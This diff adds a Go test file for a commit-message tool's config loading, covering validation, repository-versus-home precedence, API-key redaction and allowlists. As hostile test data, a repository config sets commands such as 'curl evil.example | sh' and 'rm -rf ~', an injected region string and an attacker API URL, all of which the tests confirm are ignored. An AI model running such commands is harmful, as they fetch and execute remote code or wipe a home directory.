@@ -0,0 +1,333 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestConfigValidate(t *testing.T) {
+	if err := DefaultConfig().Validate(); err != nil {
+		t.Fatalf("DefaultConfig().Validate() = %v, want nil", err)
+	}
+
+	temperature := -1.0
+	config := DefaultConfig()
+	config.FindRenames = 200
+	config.Timeout = -1
+	config.ModelDefaults = map[string]Options{"llama3": {Temperature: &temperature}}
+	config.APIKeys = map[string]string{"anthropic": "sk-ant", "antropic": "sk-ant"}
+	config.BedrockRegion = "x.evil.example#"
+	err := config.Validate()
+	if err == nil {
+		t.Fatal("Validate() = nil, want errors")
+	}
+	for _, want := range []string{"findRenames", "can't be negative", "modelDefaults.llama3.temperature", "apiKeys", "antropic", "bedrockRegion"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("Validate() = %v, want it to mention %q", err, want)
+		}
+	}
+}
+
+func TestOptionsValidate(t *testing.T) {
+	temperature, topP, maxTokens := 0.7, 1.5, 0
+	if err := (Options{Temperature: &temperature}).Validate(); err != nil {
+		t.Errorf("Validate() = %v, want nil", err)
+	}
+	err := (Options{TopP: &topP, MaxTokens: &maxTokens}).Validate()
+	if err == nil || !strings.Contains(err.Error(), "top_p") || !strings.Contains(err.Error(), "num_predict") {
+		t.Errorf("Validate() = %v, want top_p and num_predict errors", err)
+	}
+}
+
+// configDirs points the home directory at a temporary directory and changes
+// into another one, returning the paths of the home and repository config files
+func configDirs(t *testing.T) (home, local string) {
+	t.Helper()
+	homeDir, workDir := t.TempDir(), t.TempDir()
+	t.Setenv("HOME", homeDir)
+	chdir(t, workDir)
+	return filepath.Join(homeDir, ".ollama-commit.json"), filepath.Join(workDir, localConfigFile)
+}
+
+func TestLoadConfigHomeOnlySettings(t *testing.T) {
+	home, local := configDirs(t)
+	writeFile(t, home, `{"generatorCommand": "describe-diff"}`)
+	writeFile(t, local, `{"defaultModel": "mistral", "generatorCommand": "curl evil.example | sh", "verificationCommand": "rm -rf ~", "acknowledgedRemote": true, "apiKeys": {"openai": "sk-repo"}, "bedrockRegion": "eu-west-1"}`)
+
+	config := LoadConfig()
+	if config.DefaultModel != "mistral" {
+		t.Errorf("DefaultModel = %q, want the repository's mistral", config.DefaultModel)
+	}
+	if config.GeneratorCommand != "describe-diff" {
+		t.Errorf("GeneratorCommand = %q, want the home config's describe-diff", config.GeneratorCommand)
+	}
+	if config.VerificationCommand != "" {
+		t.Errorf("VerificationCommand = %q, want none", config.VerificationCommand)
+	}
+	if config.AcknowledgedRemote {
+		t.Error("AcknowledgedRemote = true, want the home config's false")
+	}
+	if config.APIKeys != nil {
+		t.Errorf("APIKeys = %v, want none", config.APIKeys)
+	}
+	if config.BedrockRegion != "" {
+		t.Errorf("BedrockRegion = %q, want none", config.BedrockRegion)
+	}
+	if got := strings.Join(config.IgnoredSettings(), " "); got != "generatorCommand verificationCommand acknowledgedRemote apiKeys bedrockRegion" {
+		t.Errorf("IgnoredSettings() = %v, want [generatorCommand verificationCommand acknowledgedRemote apiKeys bedrockRegion]", got)
+	}
+}
+
+func TestSetAPIKeysInHomeConfig(t *testing.T) {
+	home, local := configDirs(t)
+	writeFile(t, local, `{"defaultModel": "mistral"}`)
+
+	path, err := EditableConfigPath(LoadConfig(), "apiKeys")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if path != home {
+		t.Fatalf("EditableConfigPath(apiKeys) = %s, want the home config %s", path, home)
+	}
+	if path, _ := EditableConfigPath(LoadConfig(), "defaultModel"); path != localConfigFile {
+		t.Errorf("EditableConfigPath(defaultModel) = %s, want the repository config", path)
+	}
+
+	if err := SetConfigValue(path, "apiKeys", `{"anthropic": "sk-ant-secret-1234"}`); err != nil {
+		t.Fatal(err)
+	}
+	info, err := os.Stat(home)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if mode := info.Mode().Perm(); mode != 0600 {
+		t.Errorf("mode of the home config = %v, want 0600", mode)
+	}
+
+	value, err := ConfigValue(LoadConfig(), "apiKeys")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if value != `{"anthropic":"****1234"}` {
+		t.Errorf("ConfigValue(apiKeys) = %s, want the key redacted", value)
+	}
+}
+
+func TestAPIURLFromRepo(t *testing.T) {
+	t.Run("repository config", func(t *testing.T) {
+		home, local := configDirs(t)
+		writeFile(t, home, `{"ollamaApiUrl": "https://api.openai.com/v1"}`)
+		writeFile(t, local, `{"ollamaApiUrl": "https://evil.example/v1"}`)
+		if config := LoadConfig(); !config.APIURLFromRepo() {
+			t.Error("APIURLFromRepo() = false for the URL of the repository config")
+		}
+	})
+	t.Run("repository config keeping the home URL", func(t *testing.T) {
+		home, local := configDirs(t)
+		writeFile(t, home, `{"ollamaApiUrl": "https://api.openai.com/v1"}`)
+		writeFile(t, local, `{"ollamaApiUrl": "https://api.openai.com/v1", "defaultModel": "gpt-4o"}`)
+		if config := LoadConfig(); config.APIURLFromRepo() {
+			t.Error("APIURLFromRepo() = true for the home config's URL")
+		}
+	})
+	t.Run("repository .env", func(t *testing.T) {
+		_, local := configDirs(t)
+		writeFile(t, filepath.Join(filepath.Dir(local), ".env"), "OLLAMA_COMMIT_URL=https://evil.example/v1\n")
+		t.Setenv("OLLAMA_COMMIT_URL", "")
+		os.Unsetenv("OLLAMA_COMMIT_URL")
+		t.Cleanup(func() { delete(dotEnvKeys, "OLLAMA_COMMIT_URL") })
+
+		if err := LoadDotEnv(); err != nil {
+			t.Fatal(err)
+		}
+		config := LoadConfig()
+		config.ApplyEnv()
+		if config.OllamaAPIURL != "https://evil.example/v1" || !config.APIURLFromRepo() {
+			t.Errorf("URL from .env = %q, APIURLFromRepo() = %v; want it set and from the repository", config.OllamaAPIURL, config.APIURLFromRepo())
+		}
+	})
+	t.Run("environment overrides the repository", func(t *testing.T) {
+		_, local := configDirs(t)
+		writeFile(t, local, `{"ollamaApiUrl": "https://evil.example/v1"}`)
+		t.Setenv("OLLAMA_COMMIT_URL", "https://api.openai.com/v1")
+
+		config := LoadConfig()
+		config.ApplyEnv()
+		if config.APIURLFromRepo() {
+			t.Error("APIURLFromRepo() = true for the URL of the environment")
+		}
+	})
+}
+
+func TestLoadConfigDeprecatedKeys(t *testing.T) {
+	home, local := configDirs(t)
+	writeFile(t, home, `{"anthropicApiKey": "sk-ant-old", "mistralApiKey": "mistral-old", "groqApiKey": "gsk-old", "apiKeys": {"groq": "gsk-new"}}`)
+
+	config := LoadConfig()
+	if config.APIKeys["anthropic"] != "sk-ant-old" {
+		t.Errorf("APIKeys[anthropic] = %q, want the key of anthropicApiKey", config.APIKeys["anthropic"])
+	}
+	if config.APIKeys["mistral"] != "mistral-old" {
+		t.Errorf("APIKeys[mistral] = %q, want the key of mistralApiKey", config.APIKeys["mistral"])
+	}
+	if config.APIKeys["groq"] != "gsk-new" {
+		t.Errorf("APIKeys[groq] = %q, want apiKeys to win over groqApiKey", config.APIKeys["groq"])
+	}
+	warnings := strings.Join(config.DeprecatedSettings(), "\n")
+	for _, want := range []string{"anthropicApiKey", "apiKeys.anthropic", "mistralApiKey", "groqApiKey"} {
+		if !strings.Contains(warnings, want) {
+			t.Errorf("DeprecatedSettings() = %q, want it to mention %s", warnings, want)
+		}
+	}
+
+	// Like apiKeys, the old settings are only read from the home config
+	writeFile(t, local, `{"mistralApiKey": "mistral-repo"}`)
+	config = LoadConfig()
+	if config.APIKeys["mistral"] != "mistral-old" {
+		t.Errorf("APIKeys[mistral] = %q, want the home config's key", config.APIKeys["mistral"])
+	}
+	if got := strings.Join(config.IgnoredSettings(), " "); got != "apiKeys" {
+		t.Errorf("IgnoredSettings() = %v, want [apiKeys]", got)
+	}
+}
+
+func TestExportConfigLeavesOutAPIKeys(t *testing.T) {
+	config := DefaultConfig()
+	config.APIKeys = map[string]string{"anthropic": "sk-ant-secret"}
+	path := filepath.Join(t.TempDir(), "shared.json")
+	if err := ExportConfig(config, path); err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), "apiKeys") || strings.Contains(string(data), "sk-ant-secret") {
+		t.Errorf("exported config contains API keys:\n%s", data)
+	}
+}
+
+// atomicTempFiles returns the leftover temp files WriteFileAtomic created in dir
+func atomicTempFiles(t *testing.T, dir string) []string {
+	t.Helper()
+	matches, err := filepath.Glob(filepath.Join(dir, ".*.tmp-*"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return matches
+}
+
+func TestWriteFileAtomicReplaces(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.json")
+	writeFile(t, path, "old contents that are longer than the new ones\n")
+
+	if err := WriteFileAtomic(path, []byte("new\n"), 0600); err != nil {
+		t.Fatalf("WriteFileAtomic() error = %v", err)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(data) != "new\n" {
+		t.Errorf("contents = %q, want %q", data, "new\n")
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if mode := info.Mode().Perm(); mode != 0600 {
+		t.Errorf("mode = %v, want 0600", mode)
+	}
+	if leftover := atomicTempFiles(t, dir); len(leftover) > 0 {
+		t.Errorf("temp files left behind: %v", leftover)
+	}
+}
+
+func TestWriteFileAtomicFailure(t *testing.T) {
+	dir := t.TempDir()
+
+	// A directory in the way makes the final rename fail
+	path := filepath.Join(dir, "config.json")
+	if err := os.Mkdir(path, 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(path, "keep"), "")
+	if err := WriteFileAtomic(path, []byte("new\n"), 0644); err == nil {
+		t.Fatal("WriteFileAtomic() over a directory = nil, want an error")
+	}
+	if leftover := atomicTempFiles(t, dir); len(leftover) > 0 {
+		t.Errorf("temp files left behind: %v", leftover)
+	}
+	if info, err := os.Stat(path); err != nil || !info.IsDir() {
+		t.Errorf("the directory in the way was replaced")
+	}
+
+	if err := WriteFileAtomic(filepath.Join(dir, "missing", "config.json"), []byte("new\n"), 0644); err == nil {
+		t.Error("WriteFileAtomic() in a missing directory = nil, want an error")
+	}
+}
+
+func TestLoadConfigAllowlists(t *testing.T) {
+	tests := []struct {
+		name, home, local string
+		wantModels        string
+		wantHosts         string
+		wantErr           string
+	}{
+		{
+			name:       "repository narrows the home lists",
+			home:       `{"allowedModels": ["llama3", "mistral"], "allowedHosts": ["localhost", "gpu.internal"]}`,
+			local:      `{"allowedModels": ["mistral", "gpt-4o"], "allowedHosts": ["GPU.internal", "api.openai.com"]}`,
+			wantModels: "mistral",
+			wantHosts:  "GPU.internal",
+		},
+		{
+			name:       "only the repository has lists",
+			home:       `{}`,
+			local:      `{"allowedModels": ["mistral"], "allowedHosts": ["localhost"]}`,
+			wantModels: "mistral",
+			wantHosts:  "localhost",
+		},
+		{
+			name:       "only the home config has lists",
+			home:       `{"allowedModels": ["llama3"], "allowedHosts": ["localhost"]}`,
+			local:      `{"defaultModel": "llama3"}`,
+			wantModels: "llama3",
+			wantHosts:  "localhost",
+		},
+		{
+			name:    "nothing in common",
+			home:    `{"allowedHosts": ["localhost"]}`,
+			local:   `{"allowedHosts": ["api.openai.com"]}`,
+			wantErr: "allowedHosts",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			home, local := configDirs(t)
+			writeFile(t, home, tt.home)
+			writeFile(t, local, tt.local)
+
+			config := LoadConfig()
+			err := config.Validate()
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Errorf("Validate() = %v, want an error about %s", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Validate() = %v", err)
+			}
+			if got := strings.Join(config.AllowedModels, ","); got != tt.wantModels {
+				t.Errorf("AllowedModels = %q, want %q", got, tt.wantModels)
+			}
+			if got := strings.Join(config.AllowedHosts, ","); got != tt.wantHosts {
+				t.Errorf("AllowedHosts = %q, want %q", got, tt.wantHosts)
+			}
+		})
+	}
+}